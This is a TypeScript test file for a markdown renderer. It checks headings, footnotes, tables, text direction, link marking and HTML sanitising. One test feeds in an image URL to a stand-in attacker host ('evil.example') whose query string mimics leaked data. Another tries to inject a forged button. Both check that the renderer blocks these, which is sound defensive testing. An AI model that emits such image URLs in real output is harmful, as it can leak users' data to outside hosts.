import { expect, test } from "vitest";
import { renderFull } from "@/lib/markdown/full.mjs";
import { renderSimple } from "@/lib/markdown/simple.mjs";
import { listElements } from "./html-tree";

const listAttributes = (html: string, name: string) =>
  listElements(html)
    .filter((element) => element.name === name)
    .map((element) => element.properties);

test("rendering: headings go one level down, to h6 at most, and are listed with their ids", () => {
  const { html, headings } = renderFull("# A *b*\n\n## A b\n\n###### Deep\n\n#\n\n<h1>Raw</h1>\n");
  expect(headings).toEqual([
    { depth: 2, id: "user-content-a-b", text: "A b" },
    { depth: 3, id: "user-content-a-b-1", text: "A b" },
    { depth: 6, id: "user-content-deep", text: "Deep" },
    { depth: 2, id: "user-content-raw", text: "Raw" },
  ]);
  expect(listElements(html).map(({ name }) => name)).toEqual(["h2", "em", "h3", "h6", "h2", "h2"]);
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])(
  "rendering: the %s rendering lists 2,000 headings at most, the highest levels first",
  (_, render) => {
    const { headings } = render(`# First\n\n${"### a\n".repeat(2_100)}\n# Last\n`);
    expect(headings).toHaveLength(2_000);
    expect([headings[0]?.text, headings.at(-1)?.text]).toEqual(["First", "Last"]);
  },
);

test("rendering: a link to a heading leads to its id", () => {
  const [link] = listAttributes(renderFull("[go](#a-b)\n\n# A b").html, "a");
  expect(link).toEqual({ href: "#user-content-a-b" });
});

test("rendering: both renderings name headings alike", () => {
  const markdown =
    "# One *two* `three` [four](/x)\n\nOne\n===\n\n## One\n\n# &amp; <é>\n\n###### 日本語\n";
  expect(renderSimple(markdown).headings).toEqual(renderFull(markdown).headings);
});

test("rendering: footnotes lead to their note and back", () => {
  const { html, headings } = renderFull("Text[^n].\n\n[^n]: The note.\n\n# Last");
  const [call, back] = listAttributes(html, "a");
  const [note] = listAttributes(html, "li");
  expect(call?.href).toBe(`#${note?.id}`);
  expect(back?.href).toBe(`#${call?.id}`);
  const [label] = listAttributes(html, "h2").filter(({ className }) => className);
  expect(call?.ariaDescribedBy).toEqual([label?.id]);
  expect(headings.map(({ text }) => text)).toEqual(["Last"]);
});

test("rendering: the number of a footnote stays on the line of the word before it", () => {
  const { html } = renderFull("- [x] Done [^n] *now* [^n], 3 <sup>2</sup>\n\n[^n]: The note.");
  expect(html.match(/\s<sup>/gu)).toEqual(["\u00a0<sup>", "\u00a0<sup>", " <sup>"]);
});

test("rendering: task lists are named check boxes that cannot be used without scripts", () => {
  const boxes = listAttributes(renderFull("- [ ] a\n- [x] b\n").html, "input");
  expect(boxes).toEqual([
    { type: "checkbox", disabled: true, dataTaskLine: "1", ariaLabel: "To do" },
    { type: "checkbox", disabled: true, checked: true, dataTaskLine: "2", ariaLabel: "Done" },
  ]);
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])("rendering: tables keep their alignment in the %s rendering", (_, render) => {
  const { html } = render("| a | b |\n| - | -: |\n| 1 | 2 \\| 3 |\n");
  const table = html.replaceAll("\n", "");
  expect(table.replace(/^<table [^>]*>/, "<table>")).toBe(
    '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead>' +
      '<tbody><tr><td>1</td><td align="right">2 | 3</td></tr></tbody></table>',
  );
  expect(table).toMatch(/^<table( tabindex="0"| dir="auto"){2}>/);
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])(
  "rendering: each block of the %s rendering reads in the direction of its first words",
  (_, render) => {
    const { html } = render("# مرحبا\n\nשלום\n\n- أهلا\n  - nested\n\n> קצת\n\n```\ncode\n```\n");
    expect(html.match(/dir="auto"/g)).toHaveLength(4);
    expect(html).toMatch(/<ul dir="auto">\s*<li>/);
    expect(html).not.toMatch(/<pre[^>]* dir/);
  },
);

test("rendering: code is colored by its language", () => {
  expect(renderFull('```js\nconst a = "<b>";\n```\n').html).toMatchInlineSnapshot(`
    "<pre tabindex="0"><code class="hljs language-js"><span class="hljs-keyword">const</span> a = <span class="hljs-string">"&#x3C;b>"</span>;
    </code></pre>"
  `);
});

test("rendering: code in an unknown language or in none is left alone", () => {
  const { html } = renderFull("```nonsense\n<b>\n```\n\n    plain\n");
  expect(listElements(html).map(({ name }) => name)).toEqual(["pre", "code", "pre", "code"]);
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])("rendering: links to other sites are marked in the %s rendering", (_, render) => {
  const { html } = render(
    "[a](https://example.com) [b](//example.com) [c](/in) [d](mailto:a@example.com) [e](in#x)",
  );
  expect(listAttributes(html, "a").map(({ rel }) => rel)).toEqual([
    ["nofollow", "noopener", "ugc"],
    ["nofollow", "noopener", "ugc"],
    undefined,
    undefined,
    undefined,
  ]);
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])(
  "rendering: only images over https from hosts that were asked for are loaded in the %s rendering",
  (_, render) => {
    const { html } = render(
      "![kept](https://example.com/a.png) ![one](http://example.com/a.png) ![two](//example.com/a.png) ![three](a.png) ![four](data:image/png;base64,AAAA)",
      ["example.com"],
    );
    expect(listAttributes(html, "img")).toEqual([
      {
        src: "https://example.com/a.png",
        alt: "kept",
        loading: "lazy",
        referrerPolicy: "no-referrer",
      },
    ]);
    for (const alt of ["one", "two", "three", "four"]) expect(html).toContain(alt);
  },
);

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])(
  "rendering: an image waits behind a button that names its host in the %s rendering",
  (_, render) => {
    const markdown =
      '![a "b"](https://user@Evil.Example:8443/?q=what+it+read) ![c](https://example.com/c.png)';
    const { html } = render(markdown, ["example.com", "evil.example"]);
    expect(html).not.toContain("q=what");
    expect(listAttributes(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
    expect(listAttributes(html, "button")).toEqual([
      {
        type: "submit",
        form: "remote-images",
        name: "host",
        value: "evil.example:8443",
        className: ["remote-image"],
        title: "They are loaded from evil.example:8443, which learns that you opened this page.",
      },
    ]);
    expect(html).toContain("Show images from evil.example:8443");
  },
);

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])("rendering: a text cannot add its own button in the %s rendering", (_, render) => {
  const own = '<button form="remote-images" name="host" value="evil.example">Next page</button>';
  expect(listAttributes(render(own).html, "button")).toEqual([]);
});

test("rendering: harmless HTML stays, and its ids cannot be those of the page", () => {
  const { html } = renderFull('<details id="x"><summary>S</summary>H<sub>2</sub>O</details>');
  expect(html).toBe(
    '<details id="user-content-x" dir="auto"><summary>S</summary>H<sub>2</sub>O</details>',
  );
});

test.each([
  ["full", renderFull],
  ["simple", renderSimple],
])("rendering: the keyboard reaches code and tables in the %s rendering", (_, render) => {
  const { html } = render("```js\na\n```\n\n    b\n\n| c |\n| - |\n");
  const reached = listElements(html).filter(({ properties }) => properties.tabIndex === 0);
  expect(reached.map(({ name }) => name)).toEqual(["pre", "pre", "table"]);
});
